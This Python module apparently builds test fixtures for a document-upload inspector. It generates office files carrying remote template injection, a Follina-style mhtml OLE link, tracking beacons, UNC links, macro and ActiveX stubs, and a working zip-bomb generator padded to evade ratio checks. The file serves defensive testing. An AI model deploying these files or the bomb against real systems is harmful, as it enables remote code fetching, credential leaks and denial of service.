"""Hostile office documents, generated: active content of every kind the inspection refuses, a
plain document with a web link that it keeps, and a zip bomb that is small on the wire."""

import io
import zipfile

REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ODT_MIME = "application/vnd.oasis.opendocument.text"

SKELETONS = {
    "docx": {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"},
    "xlsx": {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"},
    "pptx": {"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<presentation/>"},
}


def zipped(members, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def ooxml(ext, extra):
    return zipped({**SKELETONS[ext], **extra})


def rels(*relationships):
    body = "".join(
        f'<Relationship Id="rId{n}" Type="{OFFICE_REL}/{kind}" Target="{target}"{mode}/>'
        for n, (kind, target, mode) in enumerate(relationships, start=1)
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL_NS}">{body}</Relationships>'


EXTERNAL = ' TargetMode="External"'


def odt(extra=None):
    return zipped({"mimetype": ODT_MIME, "content.xml": "<office:document-content/>", **(extra or {})})


# (name, content, code the inspection answers): each is refused as active content.
ACTIVE = [
    (
        "template.docx",
        ooxml(
            "docx",
            {"word/_rels/settings.xml.rels": rels(("attachedTemplate", "http://198.51.100.7/t.dotm", EXTERNAL))},
        ),
    ),
    (
        "follina.docx",
        ooxml(
            "docx",
            {"word/_rels/document.xml.rels": rels(("oleObject", "mhtml:http://198.51.100.7/x.html!x", EXTERNAL))},
        ),
    ),
    (
        "beacon.docx",
        ooxml("docx", {"word/_rels/document.xml.rels": rels(("image", "http://198.51.100.7/p.png", EXTERNAL))}),
    ),
    (
        "unc-link.docx",
        ooxml("docx", {"word/_rels/document.xml.rels": rels(("hyperlink", "file://198.51.100.7/share/x", EXTERNAL))}),
    ),
    (
        "frame.pptx",
        ooxml("pptx", {"ppt/slides/_rels/slide1.xml.rels": rels(("frame", "https://198.51.100.7/", EXTERNAL))}),
    ),
    ("activex.docx", ooxml("docx", {"word/activeX/activeX1.xml": "<ax/>", "word/activeX/activeX1.bin": b"\x00"})),
    ("ole.docx", ooxml("docx", {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 60})),
    ("ole.pptx", ooxml("pptx", {"ppt/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 60})),
    ("xlm.xlsx", ooxml("xlsx", {"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"})),
    ("makro.docx", ooxml("docx", {"word/vbaProject.bin": b"x"})),
    ("makro.xlsx", ooxml("xlsx", {"xl/vbaProject.bin": b"x"})),
    (
        "docm.docx",
        ooxml(
            "docx",
            {
                "[Content_Types].xml": '<Types><Override PartName="/word/document.xml" '
                'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            },
        ),
    ),
    ("basic.odt", odt({"Basic/Standard/Module1.xml": "<script:module/>"})),
    ("scripts.odt", odt({"Scripts/python/x.py": "import os"})),
]

# Plain documents that must still be accepted: a report citing a web page and mailing its author.
PLAIN = [
    (
        "tautan.docx",
        ooxml(
            "docx",
            {
                "word/_rels/document.xml.rels": rels(
                    ("hyperlink", "https://kemenag.go.id/", EXTERNAL),
                    ("hyperlink", "mailto:bdk@kemenag.go.id", EXTERNAL),
                    ("styles", "styles.xml", ""),
                )
            },
        ),
    ),
    ("biasa.odt", odt()),
]


def odt_bomb(inflated=190 * 1024 * 1024, size=2 * 1024 * 1024):
    """A ``size``-byte .odt whose ``mimetype`` member inflates to ``inflated`` bytes (declared
    honestly), padded with incompressible bytes so the whole archive's ratio looks ordinary."""
    import os

    buffer = io.BytesIO()
    # Level 1: fast to build, still ~230:1 on this member.
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("mimetype", "w", force_zip64=True) as member:
            block = ODT_MIME.encode().ljust(1024 * 1024, b" ")
            for _ in range(inflated // len(block)):
                member.write(block)
        archive.writestr("content.xml", "<office:document-content/>")
        padding = size - buffer.tell() - 400
        if padding > 0:
            archive.writestr(zipfile.ZipInfo("Pictures/noise.bin"), os.urandom(padding))
    return buffer.getvalue()
